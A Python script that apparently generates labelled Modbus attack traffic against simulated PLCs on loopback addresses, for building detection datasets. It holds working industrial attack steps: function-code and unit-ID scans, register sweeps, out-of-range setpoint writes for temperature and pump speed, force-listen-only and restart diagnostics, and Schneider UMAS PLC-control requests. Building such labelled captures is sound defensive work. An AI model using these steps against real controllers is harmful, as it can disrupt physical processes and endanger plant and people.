#!/usr/bin/env python3
"""Attacker at 127.0.0.66: Modbus reconnaissance and attacks with pymodbus.

Every step runs on its own TCP connection and is logged with its wall-clock start and end
time (the same clock tcpdump stamps packets with) to a TSV file: start (RFC 3339, UTC),
end, label, description. A window starts just before the connect (SYN) and ends after
the close (FIN) plus 50 ms; the gap between steps is --gap seconds.

Requests that pymodbus has no helper for are sent as raw PDUs through pymodbus'
client (a tiny ModbusPDU subclass that carries a function code and raw data bytes).
"""

from __future__ import annotations

import argparse
import asyncio
import datetime as dt
import logging
import struct
import time

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.exceptions import ModbusException
from pymodbus.pdu import ModbusPDU

log = logging.getLogger("attack")


class RawPDU(ModbusPDU):
    """A request PDU built from a function code and raw data bytes."""

    def __init__(self, function_code: int, data: bytes, dev_id: int = 1) -> None:
        super().__init__(dev_id=dev_id)
        self.function_code = function_code
        self.data = data

    def encode(self) -> bytes:
        return self.data


def scan_payload(fc: int) -> bytes:
    """Data for the function-code scan: well-formed, harmless requests for the public FCs."""
    be = struct.pack
    return {
        1: be(">HH", 0, 1),
        2: be(">HH", 0, 1),
        3: be(">HH", 0, 1),
        4: be(">HH", 0, 1),
        5: be(">HH", 0xFFFF, 0x0000),  # coil 65535 off: outside the map
        6: be(">HH", 0xFFFF, 0x0000),  # register 65535: outside the map
        8: be(">HH", 0x0000, 0xA55A),  # return query data (echo)
        15: be(">HHBB", 0xFFFF, 1, 1, 0),
        16: be(">HHBH", 0xFFFF, 1, 2, 0),
        # pymodbus 3.16 rejects file-record requests with an odd record length.
        20: be(">BBHHH", 7, 6, 1, 0, 2),  # read file record: file 1 record 0 length 2
        21: be(">BBHHHH", 9, 6, 1, 0, 1, 0),  # write file record: file 1 record 0 = 0
        22: be(">HHH", 0xFFFF, 0xFFFF, 0x0000),
        23: be(">HHHHBH", 0, 1, 0xFFFF, 1, 2, 0),
        24: be(">H", 0),
        43: be(">BBB", 0x0E, 0x01, 0x00),
    }.get(fc, b"")


def now() -> float:
    return time.time()


def rfc3339(t: float) -> str:
    return dt.datetime.fromtimestamp(t, dt.timezone.utc).isoformat(timespec="microseconds").replace("+00:00", "Z")


class Attack:
    def __init__(self, args):
        self.args = args
        self.labels: list[tuple[float, float, str, str]] = []

    async def client(self, target: str) -> AsyncModbusTcpClient:
        host, port = target.split(":")
        c = AsyncModbusTcpClient(
            host, port=int(port), source_address=(self.args.source, 0),
            timeout=0.5, retries=0, reconnect_delay=0,
        )
        if not await c.connect():
            raise SystemExit(f"cannot connect to {target}")
        return c

    async def req(self, c, what, call):
        """Send one request (call() returns the awaitable); reconnect if the stack dropped the link."""
        if not c.connected:
            log.info("reconnecting")
            await c.connect()
        try:
            rsp = await call()
            log.info("%s -> %s", what, rsp)
            return rsp
        except ModbusException as exc:
            log.info("%s -> %s", what, exc)
            return None

    async def step(self, label, desc, target, body):
        """Run one attack step on its own TCP connection; the window spans SYN to FIN."""
        t0 = now()
        c = await self.client(target)
        await asyncio.sleep(0.05)
        await body(c)
        c.close()
        await asyncio.sleep(0.05)
        t1 = now()
        self.labels.append((t0, t1, label, desc))
        log.info("step %s done in %.2f s", label, t1 - t0)
        await asyncio.sleep(self.args.gap)

    async def run(self):
        plc1, plc2 = self.args.plc1, self.args.plc2

        async def fc_scan(c):
            for fc in range(1, 128):
                await self.req(c, f"FC {fc}", lambda: c.execute(False, RawPDU(fc, scan_payload(fc), dev_id=1)))

        async def unit_scan(c):
            for unit in range(1, 51):
                await self.req(c, f"unit {unit}", lambda: c.read_holding_registers(0, count=1, device_id=unit))

        async def sweep(c):
            for addr in range(0, 200, 10):
                await self.req(c, f"HR {addr}", lambda: c.read_holding_registers(addr, count=10, device_id=1))
            for addr in range(0, 100, 10):
                await self.req(c, f"IR {addr}", lambda: c.read_input_registers(addr, count=10, device_id=1))
            for addr in range(0, 64, 16):
                await self.req(c, f"CO {addr}", lambda: c.read_coils(addr, count=16, device_id=1))

        async def bad_write(c):
            # Temperature setpoint 150.0 degC (normal 45-47), pump speed 9000 rpm (normal ~1500).
            await self.req(c, "FC6 HR1=1500", lambda: c.write_register(1, 1500, device_id=1))
            await self.req(c, "FC16 HR2=9000", lambda: c.write_registers(2, [9000], device_id=1))
            await self.req(c, "FC3 verify", lambda: c.read_holding_registers(0, count=4, device_id=1))

        async def listen_only(c):
            # pymodbus' helper expects no response (the spec says a device in listen-only
            # mode stays silent); send it through the helper.
            await self.req(c, "FC8/4", lambda: c.diag_force_listen_only(device_id=1, no_response_expected=True))
            await asyncio.sleep(0.3)

        async def restart(c):
            await self.req(c, "FC8/1", lambda: c.diag_restart_communication(False, device_id=1))

        async def fc90(c):
            # Schneider UMAS over FC 90 (0x5A): session 0x00, 0x02 read PLC identification,
            # then 0x40 (meant as stop PLC, but 0x40 is UMAS start PLC and 0x41 stop PLC; kept
            # so that the committed capture matches; the pymodbus PLC answers illegal function).
            await self.req(c, "FC90 read id", lambda: c.execute(False, RawPDU(90, bytes([0x00, 0x02]), dev_id=1)))
            await self.req(c, "FC90 stop", lambda: c.execute(False, RawPDU(90, bytes([0x00, 0x40, 0xFF, 0x00]), dev_id=1)))

        await asyncio.sleep(self.args.start_delay)
        await self.step("recon_fc_scan", "function code scan FC 1..127 on PLC 1 (unit 1)", plc1, fc_scan)
        await self.step("recon_unit_scan", "unit id scan 1..50 with FC 3 on PLC 2 (gateway, port 5020)", plc2, unit_scan)
        await self.step("recon_address_sweep", "address sweep on PLC 1: FC 3 HR 0..199, FC 4 IR 0..99, FC 1 coils 0..63 in blocks", plc1, sweep)
        await self.step("write_out_of_range", "setpoint writes out of range on PLC 1: FC 6 HR1=1500 (150.0 degC), FC 16 HR2=9000 rpm, then FC 3 read-back", plc1, bad_write)
        await self.step("diag_force_listen_only", "FC 8 sub-function 4 force listen only mode on PLC 1", plc1, listen_only)
        await self.step("diag_restart_comm", "FC 8 sub-function 1 restart communications option on PLC 1", plc1, restart)
        await self.step("fc90_umas", "FC 90 (Schneider UMAS) read id and stop PLC requests on PLC 1", plc1, fc90)

        with open(self.args.labels, "w", encoding="utf-8") as f:
            f.write("start\tend\tlabel\tdescription\n")
            for t0, t1, label, desc in self.labels:
                f.write(f"{rfc3339(t0)}\t{rfc3339(t1)}\t{label}\t{desc}\n")


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--source", default="127.0.0.66")
    p.add_argument("--plc1", default="127.0.0.10:502")
    p.add_argument("--plc2", default="127.0.0.11:5020")
    p.add_argument("--labels", required=True)
    p.add_argument("--gap", type=float, default=1.0)
    p.add_argument("--start-delay", type=float, default=2.0)
    args = p.parse_args()
    for a in (args.source, args.plc1, args.plc2):
        if not a.startswith("127."):
            raise SystemExit("loopback addresses only")
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    logging.getLogger("pymodbus").setLevel(logging.ERROR)
    asyncio.run(Attack(args).run())


if __name__ == "__main__":
    main()
